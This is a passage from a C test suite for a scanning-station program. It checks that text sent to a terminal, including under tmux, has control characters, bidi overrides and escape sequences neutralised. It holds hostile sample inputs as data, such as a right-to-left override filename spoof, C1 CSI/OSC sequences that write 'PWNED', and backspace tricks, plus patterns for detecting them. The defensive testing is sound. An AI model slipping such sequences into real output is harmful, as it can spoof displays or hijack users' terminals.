                       json_is_string(code) ? json_string_value(code) : "?");
        }
    }
    EXPECT_INT(ours, 3 * NP);
    json_decref(root);
}

/* ---- the text that reaches a terminal ---- */

/* Whether `s` holds a character no terminal should be sent from data: C0
 * controls, DEL, C1 controls (as raw bytes or as UTF-8), bidi overrides,
 * embeddings and isolates. */
static const char *terminal_hazard(const char *s, size_t len)
{
    static const char *const bidi[] = {
        "\xe2\x80\xaa", "\xe2\x80\xab", "\xe2\x80\xac",
        "\xe2\x80\xad", "\xe2\x80\xae", "\xe2\x81\xa6",
        "\xe2\x81\xa7", "\xe2\x81\xa8", "\xe2\x81\xa9"};
    for (size_t i = 0; i < len; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c < 0x20 || c == 0x7f)
            return "a C0 control or DEL";
        if (c == 0xc2 && i + 1 < len && (unsigned char)s[i + 1] >= 0x80 &&
            (unsigned char)s[i + 1] <= 0x9f)
            return "a C1 control";
    }
    if (!decode_is_utf8((const uint8_t *)s, len))
        return "bytes that are not UTF-8";
    for (size_t k = 0; k < sizeof(bidi) / sizeof(bidi[0]); k++)
        if (has_bytes(s, len, bidi[k], 3))
            return "a bidi override or isolate";
    return NULL;
}

static void terminal_text_has_no_controls_escapes_or_overrides(void)
{
    event();
    for (size_t i = 0; i < NP; i++) {
        const struct payload *p = &P[i];
        size_t cap = 3 * p->len + 1;
        char *out = malloc(cap);
        size_t n = text_for_terminal((const char *)p->bytes, p->len, out, cap);
        EXPECT_INT(n, strlen(out));
        const char *why = terminal_hazard(out, n);
        if (why)
            TU_FAIL_AT("%s: text_for_terminal leaves %s", p->name, why);
        /* Plain text passes unchanged; the rest keeps its length in
         * characters, one U+FFFD per byte or character taken out. */
        if (p->plain && (n != p->len || memcmp(out, p->bytes, n) != 0))
            TU_FAIL_AT("%s: plain text was changed", p->name);
        EXPECT_INT(text_is_plain((const char *)p->bytes, p->len), p->plain);
        /* Cut short, it still ends on a whole character. */
        for (size_t c = 1; c < 12 && c < cap; c++) {
            n = text_for_terminal((const char *)p->bytes, p->len, out, c);
            if (n >= c || out[n] || terminal_hazard(out, n))
                TU_FAIL_AT("%s: cut at %zu bytes: %zu, \"%s\"", p->name, c, n,
                           out);
        }
        free(out);
    }
    char out[64];
    text_for_terminal("DENY\b\b\b\bADMIT", 13, out, sizeof(out));
    EXPECT_STR(out, "DENY\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
                    "ADMIT");
    text_for_terminal("Bob\r\nSmith\tJr", 13, out, sizeof(out));
    EXPECT_STR(out, "Bob  Smith Jr");
    text_for_terminal("\xe2\x80\xae"
                      "gnp.exe",
                      10, out, sizeof(out));
    EXPECT_STR(out, "\xef\xbf\xbdgnp.exe");
    text_for_terminal("\xc0\xaf", 2, out, sizeof(out));
    EXPECT_STR(out, "\xef\xbf\xbd\xef\xbf\xbd");
    EXPECT_INT(text_for_terminal("abc", 3, out, 0), 0);
}

/* ---- the full-screen display, under tmux ---- */

/* What the program sent its terminal must not act on anything a code
 * held: valid UTF-8 (ncurses' own sequences are ASCII), no C1 control and
 * no bidi control, no OSC, DCS, APC, PM or SOS (ncurses sends none with
 * TERM=xterm), none of the payloads' escape sequences. */
static void check_terminal_bytes(const char *raw, size_t len)
{
    static const char *const bidi[] = {
        "\xe2\x80\xaa", "\xe2\x80\xab", "\xe2\x80\xac",
        "\xe2\x80\xad", "\xe2\x80\xae", "\xe2\x81\xa6",
        "\xe2\x81\xa7", "\xe2\x81\xa8", "\xe2\x81\xa9"};
    static const char *const strings[] = {"\x1b]", "\x1bP", "\x1b_", "\x1b^",
                                          "\x1bX"};
    REQUIRE(raw && len > 0);
    EXPECT_TRUE(decode_is_utf8((const uint8_t *)raw, len));
    for (size_t i = 0; i + 1 < len; i++)
        if ((unsigned char)raw[i] == 0xc2 &&
            (unsigned char)raw[i + 1] >= 0x80 &&
            (unsigned char)raw[i + 1] <= 0x9f)
            TU_FAIL_AT("a C1 control reached the terminal at byte %zu", i);
    for (size_t k = 0; k < sizeof(bidi) / sizeof(bidi[0]); k++)
        if (has_bytes(raw, len, bidi[k], 3))
            TU_FAIL_AT("a bidi control reached the terminal: %02x %02x %02x",
                       (unsigned char)bidi[k][0], (unsigned char)bidi[k][1],
                       (unsigned char)bidi[k][2]);
    for (size_t k = 0; k < sizeof(strings) / sizeof(strings[0]); k++)
        if (has_bytes(raw, len, strings[k], 2))
            TU_FAIL_AT("a terminal string (ESC %c) reached the terminal",
                       strings[k][1]);
    for (size_t i = 0; i < NP; i++)
        if (!P[i].plain && P[i].len >= 4 &&
            has_bytes(raw, len, P[i].bytes, P[i].len))
            TU_FAIL_AT("%s reached the terminal as it is", P[i].name);
}

static char *pane_title(void)
{
    const char *path = tu_path("title.txt");
    tu_sh("tmux -L %s display-message -p -t t '#{pane_title}' > '%s'",
          tu_tmux_socket(), path);
    return tu_read_file(path, NULL);
}

/* Wait for the program in the session to end (after Ctrl-Q). */
static void wait_exit(void)
{
    for (int i = 0; i < 50; i++) {
        if (tu_sh("tmux -L %s has-session -t t 2>/dev/null", tu_tmux_socket()))
            return;
        usleep(100 * 1000);
    }
    TU_FAIL_AT("the station did not quit");
}

static void curses_display_shows_frames_of_hostile_codes_safely(void)
{
    const char *db = tu_copy(event(), "tmux.db");
    make_frames();
    const char *raw_path = tu_path("frames.raw");
    char args[4200], want[64];
    snprintf(args, sizeof(args),
             "scan '%s' --station desk --name desk-t "
             "--frames '%s' --size %dx%d --format GREY",
             db, small_frames, FW, FH);
    tu_tmux_start(args, raw_path);
    snprintf(want, sizeof(want), "Scans here: %zu", NSMALL);
    char *s = tu_tmux_wait_for(want);
    EXPECT_CONTAINS(s, want);
    EXPECT_CONTAINS(s, "DENY");
    EXPECT_CONTAINS(s, "(unknown-code)");
    /* Nothing on the screen says ADMIT or what the codes wrote. */
    EXPECT_NOT_CONTAINS(s, "ADMIT");
    EXPECT_NOT_CONTAINS(s, "PWNED");
    EXPECT_NOT_CONTAINS(s, "WIPED");
    printf("---- desk after %zu hostile codes ----\n%s", NSMALL, s);
    free(s);
    char *title = pane_title(); /* an OSC 0 would have set it */
    EXPECT_NOT_CONTAINS(title, "PWNED");
    tu_tmux_keys("C-q");
    wait_exit();
    size_t len = 0;
    char *raw = tu_read_file(raw_path, &len);
    check_terminal_bytes(raw, len);
    EXPECT_TRUE(!has_bytes(raw, len, "PWNED", 5) &&
                !has_bytes(raw, len, "evil.example", 12));
    free(raw);
    free(title);
    check_journal(db, "desk-t", NSMALL);
}

/* Typed at the station's own prompt (a wedge scanner typing into the
 * terminal, or a paste): bidi and C1 controls reach the screen's input
 * line, a refusal and a search's "Nobody matches" sentence. */
static void curses_display_shows_typed_controls_safely(void)
{
    const char *db = tu_copy(event(), "typed.db");
    const char *raw_path = tu_path("typed.raw");
    char args[4200];
    snprintf(args, sizeof(args),
             "scan '%s' --station desk --name desk-k "
             "--keyboard --cooldown 0.2",
             db);
    tu_tmux_start(args, raw_path);
    free(tu_tmux_wait_for("Ready"));
    static const char *const typed[] = {
        "\xe2\x80\xaegnp.exe",         /* RLO */
        "x\xe2\x81\xa6y\xe2\x81\xa9z", /* an isolate */
        "\302\2332J\302\2350;PWNED",   /* C1 CSI and OSC */
    };
    for (size_t i = 0; i < 3; i++) {
        char k[200];
        snprintf(k, sizeof(k), "-l '%s'", typed[i]);
        tu_tmux_keys(k);
        char *s = tu_tmux_wait_for("\xef\xbf\xbd"); /* U+FFFD */
        EXPECT_CONTAINS(s, "\xef\xbf\xbd");
        free(s);
        tu_tmux_keys("Enter");
        char want[40];
        snprintf(want, sizeof(want), "Scans here: %zu", i + 1);
        s = tu_tmux_wait_for(want);
        EXPECT_CONTAINS(s, "DENY    (unknown-code)");
        free(s);
    }
    tu_tmux_keys("/");
    tu_tmux_keys("-l '\xe2\x80\xae"
                 "evil'");
    tu_tmux_keys("Enter");
    char *s = tu_tmux_wait_for("Nobody matches");
    EXPECT_CONTAINS(s, "Nobody matches \"\xef\xbf\xbd"
                       "evil\"");
    printf("---- desk after typed controls ----\n%s", s);
    free(s);
    tu_tmux_keys("C-q");
    wait_exit();
    size_t len = 0;
    char *raw = tu_read_file(raw_path, &len);
    check_terminal_bytes(raw, len);
    free(raw);
    /* The journal has what was typed, controls and all. */
    sqlite3 *d;
    sqlite3_stmt *q;
    REQUIRE(sqlite3_open_v2(db, &d, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK);
    sqlite3_prepare_v2(d,
                       "SELECT code FROM scan WHERE station = 'desk-k' "
                       "ORDER BY seq",
                       -1, &q, NULL);
    for (size_t i = 0; i < 3; i++) {
        REQUIRE(sqlite3_step(q) == SQLITE_ROW);
        EXPECT_INT(sqlite3_column_bytes(q, 0), strlen(typed[i]));
        EXPECT_STR((const char *)sqlite3_column_text(q, 0), typed[i]);
    }
    EXPECT_INT(sqlite3_step(q), SQLITE_DONE);
    sqlite3_finalize(q);
    sqlite3_close(d);
}

/* `test_hostile_codes --tmux [CASE...]` runs the cases that need tmux
 * (77 without it); without --tmux, the others. */
int main(int argc, char **argv)
{
    static const struct tu_case cases[] = {
        TU_CASE(stations_deny_and_journal_exact_bytes),
        TU_CASE(eci_utf8_header_over_invalid_bytes_reads_nothing),
        TU_CASE(csv_export_defuses_formulas_and_keeps_bytes_in_hex),
        TU_CASE(json_export_round_trips_every_code),
        TU_CASE(terminal_text_has_no_controls_escapes_or_overrides),
    };
    static const struct tu_case tmux_cases[] = {
        TU_CASE(curses_display_shows_frames_of_hostile_codes_safely),
        TU_CASE(curses_display_shows_typed_controls_safely),
    };
    int rc;
    if (argc > 1 && !strcmp(argv[1], "--tmux")) {
        if (!tu_tmux_available())
            return tu_skip_all("tmux is not installed");
        rc = tu_run(tmux_cases, sizeof(tmux_cases) / sizeof(tmux_cases[0]),
                    argc - 1, argv + 1);
        tu_tmux_stop();
    } else {
        rc = tu_run(cases, sizeof(cases) / sizeof(cases[0]), argc, argv);
    }
    for (size_t i = 0; i < NP; i++)
        free(P[i].bytes);
    /* 75 MB of frames, made again in a second: not kept with a failure. */
    if (small_frames) {
        remove(small_frames);
        remove(giant_frames);
        free((char *)small_frames);
        free((char *)giant_frames);
    }
    return rc;
}
